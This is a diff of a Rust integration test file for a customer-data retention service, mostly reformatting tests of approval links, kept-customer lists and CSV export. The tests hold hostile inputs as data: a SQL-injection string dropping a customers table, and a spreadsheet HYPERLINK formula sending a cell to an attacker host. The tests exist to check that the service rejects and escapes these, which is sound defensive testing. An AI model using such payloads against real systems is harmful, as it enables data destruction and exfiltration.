@@ -34,13 +34,16 @@ impl App {
             ("RETENTIOND__HTTP__PUBLIC_URL", base),
             ("RETENTIOND__APPROVAL__REQUIRED", required.to_string()),
         ];
-        let venues = delete_venue(2, "3 years", venue_extra).replace(r#"approvers = ["boxoffice@venue2.example"]"#, APPROVERS);
+        let venues = delete_venue(2, "3 years", venue_extra)
+            .replace(r#"approvers = ["boxoffice@venue2.example"]"#, APPROVERS);
         let svc = Service::new(db.db.clone(), db.config_with_env(&venues, &overrides));
         tokio::spawn(web::serve(listener, svc.clone(), std::future::pending()));
         let now = Utc::now().trunc_subsecs(0);
         let venue = svc.config.venue(2).unwrap().clone();
-        let Some(Selection::Created { report_id, .. }) =
-            run_venue_cycle(&svc, &venue, now, false).await.unwrap().selection
+        let Some(Selection::Created { report_id, .. }) = run_venue_cycle(&svc, &venue, now, false)
+            .await
+            .unwrap()
+            .selection
         else {
             panic!("expected a report")
         };
@@ -53,7 +56,13 @@ impl App {
             .filter(|m| m.subject().starts_with("Approval needed"))
             .map(|m| (m.to[0].clone(), m.link().unwrap()))
             .collect();
-        App { svc, http: reqwest::Client::new(), links, report_id, now }
+        App {
+            svc,
+            http: reqwest::Client::new(),
+            links,
+            report_id,
+            now,
+        }
     }
 
     fn link(&self, approver: &str) -> String {
@@ -76,7 +85,11 @@ impl App {
     }
 
     async fn state(&self) -> ReportState {
-        reports::get(&self.svc.db, self.report_id).await.unwrap().unwrap().state
+        reports::get(&self.svc.db, self.report_id)
+            .await
+            .unwrap()
+            .unwrap()
+            .state
     }
 }
 
@@ -96,28 +109,66 @@ async fn an_approval_counts_for_the_kept_list_it_was_given_for(db: TestDb) {
     let app = App::start(&db, 2, "").await;
     let (boss, dpo) = (app.link("boxoffice"), app.link("dpo"));
 
-    let (status, page) = app.post(&format!("{boss}/approve"), &[("confirm", "4")]).await;
+    let (status, page) = app
+        .post(&format!("{boss}/approve"), &[("confirm", "4")])
+        .await;
     assert_eq!(status, 200, "{page}");
     assert!(page.contains("1 of 2"), "{page}");
-    let (status, page) = app.post(&format!("{dpo}/keep"), &[("ids", &idle[2].to_string()), ("reason", "complaint in progress")]).await;
+    let (status, page) = app
+        .post(
+            &format!("{dpo}/keep"),
+            &[
+                ("ids", &idle[2].to_string()),
+                ("reason", "complaint in progress"),
+            ],
+        )
+        .await;
     assert_eq!(status, 200, "{page}");
-    assert!(page.contains("Approvals given before this change no longer count"), "{page}");
+    assert!(
+        page.contains("Approvals given before this change no longer count"),
+        "{page}"
+    );
 
     let (_, boss_page) = app.get(&boss).await;
-    assert!(boss_page.contains("your approval no longer counts"), "the earlier approver is told: {boss_page}");
-    assert!(boss_page.contains("complaint in progress") && boss_page.contains("dpo@venue2.example"), "every approver sees what the others kept");
+    assert!(
+        boss_page.contains("your approval no longer counts"),
+        "the earlier approver is told: {boss_page}"
+    );
+    assert!(
+        boss_page.contains("complaint in progress") && boss_page.contains("dpo@venue2.example"),
+        "every approver sees what the others kept"
+    );
     assert!(boss_page.contains("(0 of 2 approvals)"), "{boss_page}");
-    let (status, _) = app.post(&format!("{dpo}/approve"), &[("confirm", "4")]).await;
+    let (status, _) = app
+        .post(&format!("{dpo}/approve"), &[("confirm", "4")])
+        .await;
     assert_eq!(status, 422, "the count to type is the customers not kept");
-    app.post(&format!("{dpo}/approve"), &[("confirm", "3")]).await;
-    assert_eq!(app.state().await, ReportState::Pending, "one approval for the current list");
-    let (_, page) = app.post(&format!("{boss}/approve"), &[("confirm", "3")]).await;
+    app.post(&format!("{dpo}/approve"), &[("confirm", "3")])
+        .await;
+    assert_eq!(
+        app.state().await,
+        ReportState::Pending,
+        "one approval for the current list"
+    );
+    let (_, page) = app
+        .post(&format!("{boss}/approve"), &[("confirm", "3")])
+        .await;
     assert!(page.contains("the report is approved"), "{page}");
     assert_eq!(app.state().await, ReportState::Approved);
 
     let venue = app.svc.config.venue(2).unwrap().clone();
-    run_venue_cycle(&app.svc, &venue, app.now + chrono::Duration::minutes(1), false).await.unwrap();
-    assert!(db.customer_row(idle[2]).await.is_some(), "the kept customer is untouched");
+    run_venue_cycle(
+        &app.svc,
+        &venue,
+        app.now + chrono::Duration::minutes(1),
+        false,
+    )
+    .await
+    .unwrap();
+    assert!(
+        db.customer_row(idle[2]).await.is_some(),
+        "the kept customer is untouched"
+    );
     for c in [idle[0], idle[1], idle[3]] {
         assert!(db.customer_row(c).await.is_none());
     }
@@ -134,42 +185,77 @@ async fn hostile_keep_input_changes_nothing(db: TestDb) {
     db.db.execute(&q).await.unwrap();
     let app = App::start(&db, 1, "").await;
     let (boss, dpo) = (app.link("boxoffice"), app.link("dpo"));
-    let kept = || async { db.count("SELECT COUNT(*) FROM retention_report_items WHERE kept_at IS NOT NULL").await };
+    let kept = || async {
+        db.count("SELECT COUNT(*) FROM retention_report_items WHERE kept_at IS NOT NULL")
+            .await
+    };
 
-    let (status, page) = app.post(&format!("{boss}/keep"), &[("ids", &format!("{}, {bystander}, 999999", idle[0]))]).await;
+    let (status, page) = app
+        .post(
+            &format!("{boss}/keep"),
+            &[("ids", &format!("{}, {bystander}, 999999", idle[0]))],
+        )
+        .await;
     assert_eq!(status, 422);
-    assert!(page.contains(&format!("not on this report: {bystander}, 999999")), "{page}");
-    let (status, page) = app.post(&format!("{boss}/keep"), &[("ids", "12; DROP TABLE customers")]).await;
+    assert!(
+        page.contains(&format!("not on this report: {bystander}, 999999")),
+        "{page}"
+    );
+    let (status, page) = app
+        .post(
+            &format!("{boss}/keep"),
+            &[("ids", "12; DROP TABLE customers")],
+        )
+        .await;
     assert_eq!(status, 422);
-    assert!(page.contains("&#34;DROP&#34; is not a customer id"), "{page}");
+    assert!(
+        page.contains("&#34;DROP&#34; is not a customer id"),
+        "{page}"
+    );
     let (status, _) = app.post(&format!("{boss}/keep"), &[("ids", "")]).await;
     assert_eq!(status, 422);
     assert_eq!(kept().await, 0, "nothing was changed");
 
     let ids: Vec<String> = db
         .db
-        .fetch_all(&Query::new("SELECT id FROM customers WHERE first_name = 'Bulk' ORDER BY id"))
+        .fetch_all(&Query::new(
+            "SELECT id FROM customers WHERE first_name = 'Bulk' ORDER BY id",
+        ))
         .await
         .unwrap()
         .iter()
         .map(|r| r.i64(0).unwrap().to_string())
         .collect();
     let started = std::time::Instant::now();
-    let (status, page) = app.post(&format!("{boss}/keep"), &[("ids", &ids.join("\n"))]).await;
-    eprintln!("keep of {} ids answered in {:?}", ids.len(), started.elapsed());
+    let (status, page) = app
+        .post(&format!("{boss}/keep"), &[("ids", &ids.join("\n"))])
+        .await;
+    eprintln!(
+        "keep of {} ids answered in {:?}",
+        ids.len(),
+        started.elapsed()
+    );
     assert_eq!(status, 200, "{}", &page[..page.len().min(500)]);
-    assert!(page.contains("10000 customer(s) kept out of the report"), "{}", &page[..page.len().min(2000)]);
+    assert!(
+        page.contains("10000 customer(s) kept out of the report"),
+        "{}",
+        &page[..page.len().min(2000)]
+    );
     assert_eq!(kept().await, 10_000);
 
     // After a decision: 409; on an expired link: 410.
-    let (status, page) = app.post(&format!("{boss}/approve"), &[("confirm", "3")]).await;
+    let (status, page) = app
+        .post(&format!("{boss}/approve"), &[("confirm", "3")])
+        .await;
     assert_eq!(status, 200, "{}", &page[..page.len().min(500)]);
     let (status, _) = app.post(&format!("{dpo}/keep"), &[("ids", &ids[0])]).await;
     assert_eq!(status, 409);
     let mut expire = Query::new("UPDATE retention_tokens SET expires_at = ");
     expire.bind(app.now - chrono::Duration::days(1));
     db.db.execute(&expire).await.unwrap();
-    let (status, _) = app.post(&format!("{dpo}/unkeep"), &[("ids", &ids[0])]).await;
+    let (status, _) = app
+        .post(&format!("{dpo}/unkeep"), &[("ids", &ids[0])])
+        .await;
     assert_eq!(status, 410);
     assert_eq!(kept().await, 10_000);
 }
@@ -177,7 +263,14 @@ async fn hostile_keep_input_changes_nothing(db: TestDb) {
 async fn csv_cells_a_spreadsheet_would_run_are_escaped(db: TestDb) {
     db.migrate().await;
     let idle = idle_customers(&db, 6).await;
-    let dangerous = ["=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Click\")", "+44 1", "-1", "@SUM(A1)", "\tTab", "\rReturn"];
+    let dangerous = [
+        "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Click\")",
+        "+44 1",
+        "-1",
+        "@SUM(A1)",
+        "\tTab",
+        "\rReturn",
+    ];
     for (c, name) in idle.iter().zip(dangerous) {
         let mut q = Query::new("UPDATE customers SET first_name = ");
         q.bind(name).push(", last_name = NULL WHERE id = ").bind(*c);
@@ -185,18 +278,25 @@ async fn csv_cells_a_spreadsheet_would_run_are_escaped(db: TestDb) {
     }
     let app = App::start(&db, 1, "").await;
     let boss = app.link("boxoffice");
-    app.post(&format!("{boss}/keep"), &[("ids", &idle[5].to_string())]).await;
+    app.post(&format!("{boss}/keep"), &[("ids", &idle[5].to_string())])
+        .await;
 
     let (status, csv) = app.get(&format!("{boss}/report.csv")).await;
 
     assert_eq!(status, 200);
     let mut reader = csv::Reader::from_reader(csv.as_bytes());
-    assert_eq!(reader.headers().unwrap().iter().collect::<Vec<_>>(), ["customer_id", "name", "email", "last_activity", "kept"]);
+    assert_eq!(
+        reader.headers().unwrap().iter().collect::<Vec<_>>(),
+        ["customer_id", "name", "email", "last_activity", "kept"]
+    );
     let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
     for (row, name) in rows.iter().zip(dangerous) {
         assert_eq!(&row[1], format!("'{name}"), "prefixed so it stays text");
     }
-    assert_eq!(&rows[0][3], "2020-05-05 11:00:00+01:00", "the venue's zone, with its offset");
+    assert_eq!(
+        &rows[0][3], "2020-05-05 11:00:00+01:00",
+        "the venue's zone, with its offset"
+    );
     assert_eq!(&rows[5][4], "yes");
     assert_eq!(&rows[0][4], "no");
 }
@@ -210,13 +310,21 @@ async fn a_removed_approver_gets_403_and_decides_nothing(db: TestDb) {
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
     let base = format!("http://{}", listener.local_addr().unwrap());
     let venues = delete_venue(2, "3 years", "");
-    let svc = Service::new(db.db.clone(), db.config_with_env(&venues, &[("RETENTIOND__HTTP__PUBLIC_URL", base.clone())]));
+    let svc = Service::new(
+        db.db.clone(),
+        db.config_with_env(&venues, &[("RETENTIOND__HTTP__PUBLIC_URL", base.clone())]),
+    );
     tokio::spawn(web::serve(listener, svc, std::future::pending()));
     let old_base = dpo.split("/r/").next().unwrap().to_string();
-    let (dpo, boss) = (dpo.replace(&old_base, &base), app.link("boxoffice").replace(&old_base, &base));
+    let (dpo, boss) = (
+        dpo.replace(&old_base, &base),
+        app.link("boxoffice").replace(&old_base, &base),
+    );
 
     let (page, _) = app.get(&dpo).await;
-    let (approve, _) = app.post(&format!("{dpo}/approve"), &[("confirm", "2")]).await;
+    let (approve, _) = app
+        .post(&format!("{dpo}/approve"), &[("confirm", "2")])
+        .await;
     let (keep, _) = app.post(&format!("{dpo}/keep"), &[("ids", "1")]).await;
     let (boss_page, _) = app.get(&boss).await;
 
